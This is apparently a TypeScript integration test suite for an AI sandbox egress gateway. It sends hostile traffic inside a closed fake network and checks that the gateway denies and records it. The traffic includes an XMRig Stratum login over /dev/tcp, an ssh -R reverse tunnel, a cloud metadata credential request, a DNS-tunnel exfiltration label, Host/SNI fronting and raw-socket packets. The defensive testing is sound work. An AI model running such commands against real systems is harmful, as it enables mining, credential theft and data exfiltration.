// Privileged integration tests of the egress gateway in the TEST-NETWORK.md topology: the
// gateway runs in the host namespace, sandboxes are namespaces linked to it, the fake internet
// records what reached it. Nothing leaves the topology.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import type { PraetorEvent } from '../../src/events/index.ts';
import { createTopology, MARKERS, type Topology } from '../topology/index.ts';
import { exec, startGatewayFixture, type GatewayFixture, type TestSandbox } from './fixture.ts';

type Flow = Extract<PraetorEvent, { kind: 'net.flow' }>;
// No ping on these machines: a raw ICMP echo (also the "raw socket" case) and a raw IP packet
// of protocol 253 (experimental) from python's standard library.
const RAW = `import socket,sys
dst=sys.argv[1]
s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_ICMP)
s.sendto(bytes([8,0,0xf7,0xff,0,0,0,0]),(dst,0))
r=socket.socket(socket.AF_INET,socket.SOCK_RAW,253)
r.sendto(b'praetor-raw',(dst,0))`;
const curl = (sb: TestSandbox, args: string[]) => sb.exec('curl', ['-sS', '--max-time', '5', ...args]);
// Events wait (≤ 25 ms) for the owning pid; let them land before reading them.
const flows = async (fx: GatewayFixture, sb: TestSandbox) => {
  await new Promise((r) => setTimeout(r, 150));
  return fx.events.filter((e): e is Flow => e.kind === 'net.flow' && e.sandboxId === sb.id);
};

describe('egress gateway', { concurrency: false }, () => {
  let t: Topology; let fx: GatewayFixture;
  before(async () => { t = await createTopology(); fx = await startGatewayFixture(t); });
  after(async () => {
    if (fx) {
      const table = fx.table;
      await fx.close();
      if (t) assert.doesNotMatch((await t.execInHost('nft', ['list', 'tables'])).stdout, new RegExp(table), 'gateway left its nft table');
      assert.doesNotMatch((await exec('ip', ['-o', 'link'])).stdout, /ptg-|pts-/);
    }
    await t?.teardown();
  });

  test('a policy allowing nothing is detectable (sandbox then gets only lo)', async () => {
    const { policyAllowsNothing } = await import('../../src/net/index.ts');
    assert.equal(policyAllowsNothing(undefined), true);
    assert.equal(policyAllowsNothing({ network: { allow: [], deny: [], protocols: { allow: [], unknown: 'allow' }, modelGateway: false } }), true);
  });

  test('allowed HTTP and HTTPS by name work; flows are recorded with Host/SNI and bytes', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }, { domain: 'tls.example.test', ports: [443], inspect: 'passthrough' }] });
    try {
      const http = await curl(sb, ['http://web.example.test/hello']);
      assert.equal(http.code, 0, http.stderr); assert.match(http.stdout, new RegExp(MARKERS.web));
      const https = await curl(sb, ['--cacert', t.tlsCertPath, 'https://tls.example.test/']);
      assert.equal(https.code, 0, https.stderr);
      const f = await fx.waitEvent((e) => e.kind === 'net.flow' && e.sandboxId === sb.id && (e as Flow).protocol === 'tls') as Flow;
      assert.equal(f.decision, 'allow'); assert.equal(f.sni, 'tls.example.test'); assert.equal(f.domain, 'tls.example.test');
      assert.ok(f.bytesOut > 100 && f.bytesIn > 100, JSON.stringify(f));
      const h = (await flows(fx, sb)).find((e) => e.protocol === 'http')!;
      assert.equal(h.host, 'web.example.test'); assert.equal(h.rule, 'network.allow[0]'); assert.equal(h.dstIp, t.servers.web.ip);
      await flows(fx, sb);
      assert.ok(fx.events.some((e) => e.kind === 'dns.query' && e.sandboxId === sb.id && e.name === 'web.example.test' && e.decision === 'allow'));
      // the sandbox's own lo is its business: never intercepted, never recorded
      const n0 = (await flows(fx, sb)).length;
      const lo = await sb.exec(process.execPath, ['-e', `const n=require('net');const s=n.createServer(c=>c.end('LO-OK')).listen(0,'127.0.0.1',()=>{n.connect(s.address().port,'127.0.0.1').on('data',d=>{console.log(String(d));s.close();process.exit(0)})})`]);
      assert.equal(lo.stdout.trim(), 'LO-OK', lo.stderr);
      await new Promise((r) => setTimeout(r, 100));
      assert.equal((await flows(fx, sb)).length, n0);
    } finally { await sb.destroy(); }
  });

  test('the same server by IP literal is denied (not resolved through the gateway)', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }] });
    try {
      const r = await curl(sb, [`http://${t.servers.web.ip}/`]);
      assert.notEqual(r.code, 0);
      const f = await fx.waitEvent((e) => e.kind === 'net.flow' && e.sandboxId === sb.id) as Flow;
      assert.equal(f.decision, 'deny'); assert.equal(f.rule, 'default-deny'); assert.equal(f.protocol, 'http'); assert.equal(f.bytesOut, 0);
      // the process behind a denied packet: curl's pid, found through the sandbox's namespace
      assert.equal(typeof f.pid, 'number', JSON.stringify(f));
    } finally { await sb.destroy(); }
  });

  test('Stratum to an allowed IP:port is denied and zero bytes reach the pool', async () => {
    const sb = await fx.sandbox({ allow: [{ cidr: '203.0.113.20/32', ports: [3333, 443] }] });
    try {
      const before = (await t.log('stratum')).length;
      const login = JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: 'wallet', pass: 'x', agent: 'XMRig/6.21.0' } });
      for (const port of [3333, 443]) {
        const r = await sb.exec('bash', ['-c', `exec 3<>/dev/tcp/203.0.113.20/${port} && printf '%s\\n' '${login}' >&3 && timeout 2 cat <&3`]);
        assert.notEqual(r.stdout.length > 0 && r.code === 0, true, r.stdout);
      }
      const denied = (await flows(fx, sb));
      await fx.waitEvent((e) => e.kind === 'net.flow' && e.sandboxId === sb.id && (e as Flow).dstPort === 443);
      for (const f of (await flows(fx, sb))) { assert.equal(f.decision, 'deny'); assert.equal(f.protocol, 'stratum'); assert.equal(f.rule, 'protocols.allow'); assert.equal(f.bytesOut, 0); }
      assert.ok(denied.length >= 1);
      await new Promise((r) => setTimeout(r, 200));
      // The gateway may have dialled the allowed destination while judging the first bytes;
      // what matters is that not one byte of the login arrived.
      const after = (await t.log('stratum')).slice(before);
      assert.deepEqual(after.filter((e) => !['listening', 'connection', 'close'].includes(e.event)), [], 'the pool saw bytes');
      assert.ok(after.filter((e) => e.event === 'close').every((e) => e.bytesIn === 0), JSON.stringify(after));
    } finally { await sb.destroy(); }
  });

  test('ssh and ssh -R to an allowed host are denied; sshd sees no session', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'ssh.example.test', ports: [22] }] });
    try {
      const base = [...t.ssh.args, '-o', 'BatchMode=yes', '-o', 'ConnectTimeout=5'];
      const plain = await sb.exec('ssh', [...base, `${t.ssh.user}@ssh.example.test`, 'echo', 'PWNED'], 15_000);
      assert.notEqual(plain.code, 0); assert.doesNotMatch(plain.stdout, /PWNED/);
      const rev = await sb.exec('timeout', ['8', 'ssh', ...base, '-N', '-R', '9000:127.0.0.1:22', `${t.ssh.user}@ssh.example.test`], 15_000);
      assert.notEqual(rev.code, 0);
      const fs = (await flows(fx, sb));
      assert.ok(fs.length >= 2 && fs.every((f) => f.protocol === 'ssh' && f.decision === 'deny' && f.bytesOut === 0), JSON.stringify(fs));
      const log = await t.log('ssh');
      assert.ok(!log.some((e) => e.event === 'auth' || e.event === 'forward'), 'sshd authenticated someone');
    } finally { await sb.destroy(); }
  });

  test('an allowed SSH banner does not let a later stratum login from the client through', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'ssh.example.test', ports: [22] }], protocols: { allow: ['ssh'] } });
    try {
      // The client stays silent (server speaks first), reads sshd's allowed banner, then sends a
      // miner login on the same connection: it must be judged, not forwarded as "ssh".
      const login = JSON.stringify({ id: 1, jsonrpc: '2.0', method: 'login', params: { login: 'wallet', pass: 'x', agent: 'XMRig/6.21.0' } });
      const r = await sb.exec('bash', ['-c', `exec 3<>/dev/tcp/ssh.example.test/22 && read -r banner <&3 && echo "$banner" && printf '%s\\n' '${login}' >&3 && timeout 2 cat <&3`]);
      assert.match(r.stdout, /^SSH-2\.0-/, 'the allowed ssh banner reached the client');
      const f = await fx.waitEvent((e) => e.kind === 'net.flow' && e.sandboxId === sb.id && (e as Flow).dstPort === 22) as Flow;
      assert.equal(f.decision, 'deny', JSON.stringify(f)); assert.equal(f.rule, 'protocols.allow'); assert.match(f.reason ?? '', /stratum/);
      assert.ok(!(await t.log('ssh')).some((e) => /XMRig|wallet/.test(String(e.text))), 'sshd saw the login');
    } finally { await sb.destroy(); }
  });

  test('UDP, ICMP, metadata and RFC 1918 targets are denied and recorded', async () => {
    const sb = await fx.sandbox({ allow: [{ cidr: '0.0.0.0/0', ports: [80] }] });
    try {
      await sb.exec('bash', ['-c', 'echo hi > /dev/udp/203.0.113.10/9999']);
      for (const dst of ['203.0.113.10', sb.gatewayIp]) {
        const r = await sb.exec('/usr/bin/python3', ['-c', RAW, dst]);
        assert.equal(r.code, 0, r.stderr);
      }
      const udp = await fx.waitEvent((e) => e.kind === 'net.attempt' && e.sandboxId === sb.id && e.protocol === 'udp', 3000);
      assert.equal((udp as { dstPort?: number }).dstPort, 9999);
      await fx.waitEvent((e) => e.kind === 'net.attempt' && e.sandboxId === sb.id && e.protocol === 'icmp' && e.dstIp === '203.0.113.10', 3000);
      await fx.waitEvent((e) => e.kind === 'net.attempt' && e.sandboxId === sb.id && e.protocol === 'icmp' && e.dstIp === sb.gatewayIp, 3000);
      await fx.waitEvent((e) => e.kind === 'net.attempt' && e.sandboxId === sb.id && e.protocol === 'ip-proto-253', 3000);
      assert.deepEqual((await t.log('web')).filter((e) => e.event === 'connection' && String(e.local).endsWith(':9999')), []);
      const md = await curl(sb, ['http://169.254.169.254/latest/meta-data/iam/security-credentials/']);
      assert.doesNotMatch(md.stdout, new RegExp(MARKERS.metadataKeyId));
      const internal = await curl(sb, ['http://10.99.0.10/']);
      assert.doesNotMatch(internal.stdout, new RegExp(MARKERS.internal));
      assert.equal((await flows(fx, sb)).find((f) => f.dstIp === '169.254.169.254')?.rule, 'protected:link-local');
      assert.equal((await flows(fx, sb)).find((f) => f.dstIp === '10.99.0.10')?.rule, 'protected:rfc1918');
      const open = await curl(sb, ['http://203.0.113.10/']);
      assert.match(open.stdout, new RegExp(MARKERS.web), 'the CIDR rule itself works');
      assert.deepEqual((await t.log('internal')).filter((e) => e.event === 'request'), []);
      assert.deepEqual((await t.log('metadata')).filter((e) => e.event === 'request'), []);
    } finally { await sb.destroy(); }
  });

  test('rebinding, fronting (Host and SNI) and DNS tunnelling are refused', async () => {
    const sb = await fx.sandbox({ allow: [
      { domain: 'rebind.example.test', ports: [80] }, { domain: 'web.example.test', ports: [80] },
      { domain: 'tls.example.test', ports: [443], inspect: 'passthrough' }, { domain: '*.mirror.example.test', ports: [443] }] });
    try {
      const rb = await curl(sb, ['http://rebind.example.test/']);
      assert.notEqual(rb.code, 0);
      await flows(fx, sb);
      assert.equal((fx.events.find((e) => e.kind === 'dns.query' && e.sandboxId === sb.id && e.name === 'rebind.example.test' && e.qtype === 'A') as { rule: string }).rule, 'protected:rfc1918');
      const fr = await curl(sb, ['-H', 'Host: internal.example.test', 'http://web.example.test/']);
      assert.doesNotMatch(fr.stdout, new RegExp(MARKERS.web));
      assert.equal((await flows(fx, sb)).find((f) => f.host === 'internal.example.test')?.rule, 'fronting');
      const sni = await sb.exec('bash', ['-c', `echo | timeout 5 openssl s_client -connect tls.example.test:443 -servername secure.example.test`]);
      assert.doesNotMatch(sni.stdout, /BEGIN CERTIFICATE/);
      assert.equal((await flows(fx, sb)).find((f) => f.sni === 'secure.example.test')?.rule, 'fronting');
      // keep-alive fronting: an allowed first request, then another Host on the same connection
      const two = "GET /first HTTP/1.1\\r\\nHost: web.example.test\\r\\n\\r\\nGET /second HTTP/1.1\\r\\nHost: internal.example.test\\r\\n\\r\\n";
      const ka = await sb.exec('bash', ['-c', `exec 3<>/dev/tcp/web.example.test/80 && printf '${two}' >&3 && timeout 3 cat <&3`]);
      // (the cut resets the connection, so the first response may or may not have made it back)
      assert.doesNotMatch(ka.stdout, /second/);
      assert.ok((await t.log('web')).some((e) => JSON.stringify(e).includes('/first')), 'the allowed first request was forwarded');
      assert.ok(!(await t.log('web')).some((e) => JSON.stringify(e).includes('/second')), 'the fronted request reached the server');
      assert.ok((await flows(fx, sb)).some((f) => f.rule === 'fronting' && f.host === 'internal.example.test' && /request 2/.test(f.reason ?? '')));
      const label = 'mzxw6ytboi2dqnzrgeztgnbvgy3tqojqgezdgnbvgy3toobzga'; // base32 exfil, 50 chars
      const tun = await sb.exec('getent', ['ahostsv4', `${label}.mirror.example.test`]);
      assert.notEqual(tun.code, 0);
      const ev = await fx.waitEvent((e) => e.kind === 'dns.query' && e.sandboxId === sb.id && e.name.startsWith(label));
      assert.equal((ev as { rule: string }).rule, 'dns-tunnel');
      const dnsLog = (await t.log('dns')).filter((e) => JSON.stringify(e).includes(label));
      assert.deepEqual(dnsLog, [], 'the tunnel query was forwarded upstream');
    } finally { await sb.destroy(); }
  });

  test('JSON-RPC: reads pass, transactions are denied before reaching the node', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'rpc.example.test', ports: [8545] }] });
    try {
      const post = (method: string) => curl(sb, ['-H', 'Content-Type: application/json', '--data', JSON.stringify({ jsonrpc: '2.0', id: 1, method, params: ['0xf86b80'] }), 'http://rpc.example.test:8545/']);
      const ok = await post('eth_blockNumber');
      assert.equal(ok.code, 0, ok.stderr); assert.match(ok.stdout, /result/);
      const tx = await post('eth_sendRawTransaction');
      assert.doesNotMatch(tx.stdout, /result/);
      assert.equal((await flows(fx, sb)).find((f) => f.protocol === 'jsonrpc-tx')?.decision, 'deny');
      // web3 clients reuse connections: a transaction as the second keep-alive request is cut too
      const body1 = JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'eth_chainId' });
      const body2 = JSON.stringify({ jsonrpc: '2.0', id: 2, method: 'eth_sendRawTransaction', params: ['0xf86b80'] });
      const reqs = [body1, body2].map((b) => `POST / HTTP/1.1\r\nHost: rpc.example.test:8545\r\nContent-Type: application/json\r\nContent-Length: ${b.length}\r\n\r\n${b}`).join('');
      const ka = await sb.exec('bash', ['-c', 'exec 3<>/dev/tcp/rpc.example.test/8545 && printf "%s" "$0" >&3 && timeout 3 cat <&3', reqs]);
      assert.doesNotMatch(ka.stdout, /"id":2/);
      assert.ok((await flows(fx, sb)).filter((f) => f.protocol === 'jsonrpc-tx' && f.decision === 'deny').length >= 2);
      const rpcLog = await t.log('jsonrpc');
      assert.ok(!rpcLog.some((e) => JSON.stringify(e).includes('eth_sendRawTransaction')), 'the node saw the transaction');
    } finally { await sb.destroy(); }
  });

  test('HTTP_PROXY and CONNECT work for allowed names and refuse others', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }, { domain: 'tls.example.test', ports: [443], inspect: 'passthrough' }] });
    try {
      const p = sb.env.HTTP_PROXY!;
      const a = await curl(sb, ['-x', p, 'http://web.example.test/via-proxy']);
      assert.match(a.stdout, new RegExp(MARKERS.web), a.stderr);
      const b = await curl(sb, ['-x', p, '--cacert', t.tlsCertPath, 'https://tls.example.test/']);
      assert.equal(b.code, 0, b.stderr);
      const c = await curl(sb, ['-x', p, '--cacert', t.tlsCertPath, 'https://pool.example.test:443/']);
      assert.notEqual(c.code, 0);
    } finally { await sb.destroy(); }
  });

  test('phase switch: setup allows more, agent phase cuts it', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }], phases: { setup: { allow: [{ domain: 'pkgs.example.test', ports: [80] }] } } });
    try {
      assert.match((await curl(sb, ['http://pkgs.example.test/'])).stdout, new RegExp(MARKERS.web));
      // a long download started in setup is cut when the phase switches
      const long = sb.exec('curl', ['-sS', '--max-time', '20', '--limit-rate', '100k', '-o', '/dev/null', 'http://pkgs.example.test/bytes?n=100000000'], 25_000);
      await new Promise((r) => setTimeout(r, 500));
      await sb.setPhase('agent');
      const cut = await long;
      assert.notEqual(cut.code, 0);
      assert.notEqual((await curl(sb, ['http://pkgs.example.test/'])).code, 0);
      assert.match((await curl(sb, ['http://web.example.test/'])).stdout, new RegExp(MARKERS.web));
      const cutEv = (await flows(fx, sb)).find((f) => /phase switched/.test(f.reason ?? ''));
      assert.ok(cutEv && cutEv.decision === 'deny' && cutEv.bytesIn > 0, JSON.stringify((await flows(fx, sb))));
    } finally { await sb.destroy(); }
  });

  test('phase switch right after setup: a finished setup download is no denial; a half-closed one is still cut, bounded', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }], phases: { setup: { allow: [{ domain: 'pkgs.example.test', ports: [80, 8081] }] } } });
    try {
      // The setup command returns, and the switch comes at once: its closed connection is not cut.
      assert.match((await curl(sb, ['http://pkgs.example.test/'])).stdout, new RegExp(MARKERS.web));
      await sb.setPhase('agent');
      await new Promise((r) => setTimeout(r, 400));
      const denied = (await flows(fx, sb)).filter((f) => f.decision === 'deny');
      assert.deepEqual(denied, [], 'a download that finished in setup reads as a denial');
      // A setup-phase client that half-closed (sent its FIN) but still reads from a server that
      // keeps sending: it carries nothing more from the sandbox, yet it is cut once the settle
      // time is over, so a switch to a narrower phase bounds what still flows in.
      const server = t.spawnInInet('/usr/bin/python3', ['-c', `
import socket, time
l = socket.socket(); l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); l.bind(("${t.servers.web.ip}", 8081)); l.listen(1)
c, _ = l.accept()
while c.recv(4096): pass
t = time.time()
try:
    while time.time() - t < 15: c.sendall(b"x" * 1024); time.sleep(0.01)
except OSError: pass
`], { stdio: 'ignore' });
      try {
        await sb.setPhase('setup');
        await new Promise((r) => setTimeout(r, 300));
        const slow = sb.exec('/usr/bin/python3', ['-c', `
import socket, time
s = socket.create_connection(("pkgs.example.test", 8081)); s.sendall(b"hello"); s.shutdown(socket.SHUT_WR)
s.recv(100); print("reading", flush=True)
t = time.time()
try:
    while time.time() - t < 10:
        if not s.recv(1024): break
except OSError: pass
print("ended after %.1f s" % (time.time() - t))
`], 20_000);
        await new Promise((r) => setTimeout(r, 1000));
        await sb.setPhase('agent');
        const r = await slow;
        assert.match(r.stdout, /ended after [0-4]\./, r.stdout + r.stderr + JSON.stringify(await flows(fx, sb)));
        const cutEv = (await flows(fx, sb)).find((f) => /still open 300 ms after the switch/.test(f.reason ?? ''));
        assert.ok(cutEv && cutEv.decision === 'deny', JSON.stringify(await flows(fx, sb)));
      } finally { server.kill('SIGKILL'); }
    } finally { await sb.destroy(); }
  });

  test('isolate cuts live connections and denies everything afterwards', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }] });
    try {
      // a bulk transfer gets spliced after 256 KiB: isolate must cut it inside the kernel too
      const bulk = await curl(sb, ['-o', '/dev/null', '-w', '%{size_download}', 'http://web.example.test/bytes?n=20000000']);
      assert.equal(bulk.stdout, '20000000', bulk.stderr);
      const bf = await fx.waitEvent((e) => e.kind === 'net.flow' && e.sandboxId === sb.id && (e as Flow).bytesIn > 20_000_000) as Flow;
      assert.equal(bf.decision, 'allow');
      const long = sb.exec('curl', ['-sS', '--max-time', '20', '--limit-rate', '2m', '-o', '/dev/null', 'http://web.example.test/bytes?n=100000000'], 25_000);
      await new Promise((r) => setTimeout(r, 1000));
      await sb.isolate();
      assert.notEqual((await long).code, 0);
      assert.notEqual((await curl(sb, ['--max-time', '3', 'http://web.example.test/'])).code, 0);
    } finally { await sb.destroy(); }
  });

  test('a containment cuts what was opened since its trigger, and everything opened until it ends; older flows are spared', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }] });
    try {
      // Long enough that the gateway's side of each stays open (socket buffers hold megabytes).
      const old = sb.exec('curl', ['-sS', '--max-time', '20', '--limit-rate', '10m', '-o', '/dev/null', '-w', '%{size_download}', 'http://web.example.test/bytes?n=40000000'], 25_000);
      await new Promise((r) => setTimeout(r, 1000));
      const young = sb.exec('curl', ['-sS', '--max-time', '20', '--limit-rate', '10m', '-o', '/dev/null', 'http://web.example.test/bytes?n=40000000'], 25_000);
      await new Promise((r) => setTimeout(r, 500));
      // The trigger was 1 s ago: after the old transfer began, before the young one.
      assert.equal(await sb.containing(1000, 1500), 1, 'one flow opened since the trigger');
      assert.notEqual((await young).code, 0, 'the young flow was cut');
      const during = await curl(sb, ['--max-time', '3', 'http://web.example.test/']);
      assert.notEqual(during.code, 0, 'a connection opened while the containment runs is refused');
      const o = await old;
      assert.equal(o.code, 0, o.stderr);
      assert.equal(o.stdout, '40000000', 'the flow older than the trigger ran to its end');
      await new Promise((r) => setTimeout(r, 200));
      const afterwards = await curl(sb, ['-o', '/dev/null', '-w', '%{http_code}', 'http://web.example.test/']);
      assert.equal(afterwards.stdout, '200', 'once it is over, the policy decides again');
      const denied = (await flows(fx, sb)).filter((f) => f.rule === 'containing');
      assert.equal(denied.length, 2, JSON.stringify(denied));
    } finally { await sb.destroy(); }
  });

  test('a crashed gateway is swept: its table, links and slots go', async () => {
    const fx2 = await startGatewayFixture(t);
    try {
      await fx2.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }] });
      const id = fx2.table.replace('praetor-gw-', '');
      await fx2.crash();
      assert.match((await t.execInHost('nft', ['list', 'tables'])).stdout, new RegExp(fx2.table));
      const script = `import { sweepStaleGateways } from '${new URL('../../src/net/index.ts', import.meta.url).pathname}'; console.log(JSON.stringify(await sweepStaleGateways()))`;
      const r = await t.execInHost(process.execPath, ['--input-type=module', '-e', script]);
      assert.equal(r.code, 0, r.stderr);
      const removed = JSON.parse(r.stdout) as string[];
      assert.ok(removed.includes(`nft table ${fx2.table}`), r.stdout);
      assert.ok(removed.some((x) => x.startsWith(`link ptg-${id}`)), r.stdout);
      assert.doesNotMatch((await t.execInHost('nft', ['list', 'tables'])).stdout, new RegExp(fx2.table));
      assert.doesNotMatch((await t.execInHost('ip', ['-o', 'link'])).stdout, new RegExp(`ptg-${id}`));
      assert.ok(fx.table !== fx2.table && (await t.execInHost('nft', ['list', 'tables'])).stdout.includes(fx.table), 'a live gateway is left alone');
    } finally { await fx2.close(); }
  });

  test('DNS to any address, over UDP or TCP, is answered by the gateway by policy', async () => {
    const sb = await fx.sandbox({ allow: [{ domain: 'web.example.test', ports: [80] }] });
    try {
      // Queries aimed straight at a nameserver (here the topology's own) still land on the gateway.
      const script = `
        const dgram = require('dgram'), net = require('net');
        const q = (id, name) => { const l = name.split('.').map((x) => Buffer.concat([Buffer.from([x.length]), Buffer.from(x)]));
          return Buffer.concat([Buffer.from([id >> 8, id & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...l, Buffer.from([0, 0, 1, 0, 1])]); };
        const udp = (name) => new Promise((res) => { const s = dgram.createSocket('udp4'); s.on('message', (m) => { s.close(); res(m[3] & 15); }); s.send(q(7, name), 53, '${t.servers.dns.ip}'); });
        const tcp = (name) => new Promise((res) => { const c = net.connect(53, '${t.servers.dns.ip}', () => { const m = q(9, name); c.write(Buffer.concat([Buffer.from([m.length >> 8, m.length & 255]), m])); });
          c.on('data', (d) => { c.destroy(); res(d[5] & 15); }); c.on('error', () => res(-1)); });
        (async () => { console.log(JSON.stringify([await udp('web.example.test'), await udp('evil.example.test'), await tcp('web.example.test'), await tcp('evil.example.test')])); })();`;
      const r = await sb.exec(process.execPath, ['-e', script]);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual(JSON.parse(r.stdout), [0, 5, 0, 5]); // NOERROR, REFUSED, over UDP then TCP
      await flows(fx, sb);
      const q = fx.events.filter((e): e is Extract<PraetorEvent, { kind: 'dns.query' }> => e.kind === 'dns.query' && e.sandboxId === sb.id);
      assert.equal(q.filter((e) => e.decision === 'deny').length, 2);
    } finally { await sb.destroy(); }
  });
});
